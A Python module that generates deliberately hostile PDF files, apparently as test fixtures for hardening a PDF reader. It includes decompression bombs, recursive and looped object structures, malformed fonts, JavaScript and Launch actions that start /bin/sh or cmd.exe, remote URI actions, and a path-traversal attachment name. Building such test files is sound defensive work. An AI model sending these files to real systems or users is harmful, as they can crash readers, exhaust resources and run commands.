"""PDF files made to harm whoever reads them, and the list that makers of such files of any kind go to."""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable

Maker = Callable[[random.Random], bytes]
MAKERS: dict[str, Maker] = {}


def maker(name: str) -> Callable[[Maker], Maker]:
    """Register what makes a file, by the file's name."""

    def put(made: Maker) -> Maker:
        MAKERS[name] = made
        return made

    return put


def pdf(*objects: bytes, root: int = 1, header: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF of numbered objects, the first a catalog."""
    out, places = bytearray(header), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, root, start))


def stream(data: bytes, more: bytes = b"", length: int | None = None) -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(data) if length is None else length, data)


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
WORDS = b"BT /F 12 Tf 72 700 Td (The worker has neck pain.) Tj ET"


def page(content: int = 4, more: bytes = b"", resources: bytes = b"/Font<</F 5 0 R>>") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents %d 0 R/Resources<<%s>>%s>>" % (content, resources, more)


def one_page(content: bytes, *more: bytes, catalog: bytes = CATALOG, **of_page: bytes) -> bytes:
    return pdf(catalog, PAGES, page(4, **of_page), content, FONT, *more)


@maker("flate-bomb.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(zlib.compress(b" " * 300_000_000, 9), b"/Filter/FlateDecode"))


@maker("flate-bomb-twice.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(zlib.compress(zlib.compress(b"q " * 250_000_000, 9), 9), b"/Filter[/FlateDecode/FlateDecode]"))


@maker("forms-in-forms.pdf")
def _(chance: random.Random) -> bytes:
    forms = [
        stream(
            b" ".join([b"/X Do"] * 10),
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (at + 1),
        )
        for at in range(6, 20)
    ]
    return one_page(stream(b"/X Do " * 10), *forms, stream(WORDS, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
                    resources=b"/Font<</F 5 0 R>>/XObject<</X 6 0 R>>")  # fmt: skip


@maker("looped-page-tree.pdf")
def _(chance: random.Random) -> bytes:
    return pdf(
        CATALOG, b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 9>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>"
    )


@maker("million-objects.pdf")
def _(chance: random.Random) -> bytes:
    return pdf(CATALOG, PAGES, page(), stream(WORDS), FONT, *([b"<<>>"] * 1_000_000))


@maker("hundred-thousand-pages.pdf")
def _(chance: random.Random) -> bytes:
    number = 100_000
    kids = b" ".join(b"%d 0 R" % (at + 5) for at in range(number))
    tiny = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 3 0 R>>"
    return pdf(CATALOG, b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, number), stream(b"n"), FONT, *([tiny] * number))


@maker("count-that-lies.pdf")
def _(chance: random.Random) -> bytes:
    return pdf(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", page(), stream(WORDS), FONT)


@maker("wrong-lengths.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(WORDS, length=4_294_967_295))


@maker("negative-length.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(WORDS, length=-5))


@maker("script.pdf")
def _(chance: random.Random) -> bytes:
    script = b"<</S/JavaScript/JS(app.launchURL\\('file:///tmp/imr-was-here'\\); app.alert\\('x'\\);)>>"
    return one_page(stream(WORDS), catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s>>>>" % (script, script))


@maker("launch.pdf")
def _(chance: random.Random) -> bytes:
    launch = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c echo x > imr-was-here)>>>>"
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A %s>>]" % launch
    return one_page(stream(WORDS), catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % launch, more=link)


@maker("remote.pdf")
def _(chance: random.Random) -> bytes:
    act = b"<</S/URI/URI(http://192.0.2.1/imr)>>"
    ref = b"/Ref<</F<</FS/URL/F(http://192.0.2.1/a.pdf)>>>>"
    outside = stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + ref)
    return one_page(stream(WORDS), outside, catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % act)


@maker("huge-picture.pdf")
def _(chance: random.Random) -> bytes:
    sides = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
    image = stream(zlib.compress(b"\0" * 20_000_000, 9), sides +
                   b"/ColorSpace/DeviceRGB/Filter/FlateDecode")  # fmt: skip
    return one_page(stream(b"612 0 0 792 0 0 cm /I Do"), image, resources=b"/XObject<</I 6 0 R>>")


@maker("huge-page.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(WORDS), more=b"/UserUnit 75000").replace(b"[0 0 612 792]", b"[0 0 2000000 2000000]")


@maker("nested-arrays.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(b"[" * 200_000 + b"]" * 200_000), b"[" * 100_000 + b"]" * 100_000)


@maker("font-that-crashes.pdf")
def _(chance: random.Random) -> bytes:
    broken = b"\0\1\0\0\0\x0a" + chance.randbytes(6) + b"glyf" + chance.randbytes(3000)
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 255/Widths[%s]/FontDescriptor 7 0 R>>" % (
        b"500 " * 256
    )
    descriptor = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 8 0 R/FontBBox[0 0 9999999 9999999]/Ascent 1e38>>"
    return one_page(stream(WORDS.replace(b"/F", b"/G")), font, descriptor, stream(broken, b"/Length1 99999999"),
                    resources=b"/Font<</G 6 0 R>>")  # fmt: skip


@maker("to-unicode-bomb.pdf")
def _(chance: random.Random) -> bytes:
    ranges = b"".join(b"<0000> <ffff> <%s>\n" % (b"0041" * 200) for _ in range(400))
    cmap = b"/CIDInit /ProcSet findresource begin begincmap 400 beginbfrange\n%sendbfrange endcmap end" % ranges
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 7 0 R>>"
    return one_page(stream(WORDS.replace(b"/F", b"/G") * 2000), font, stream(cmap), resources=b"/Font<</G 6 0 R>>")


@maker("cross-references-in-a-loop.pdf")
def _(chance: random.Random) -> bytes:
    made = one_page(stream(WORDS))
    start = made.rindex(b"xref\n0")
    return made.replace(b"trailer<<", b"trailer<</Prev %d" % start)


@maker("attachment-bomb.pdf")
def _(chance: random.Random) -> bytes:
    bomb = stream(zlib.compress(b"\0" * 900_000_000, 9), b"/Type/EmbeddedFile/Filter/FlateDecode")
    names = b"<</Names[(..\\\\..\\\\evil.txt)<</Type/Filespec/F(../../../etc/evil.txt)/EF<</F 6 0 R>>>>]>>"
    return one_page(stream(WORDS), bomb, catalog=b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles %s>>>>" % names)


@maker("random-after-header.pdf")
def _(chance: random.Random) -> bytes:
    return b"%PDF-1.7\n" + chance.randbytes(200_000)
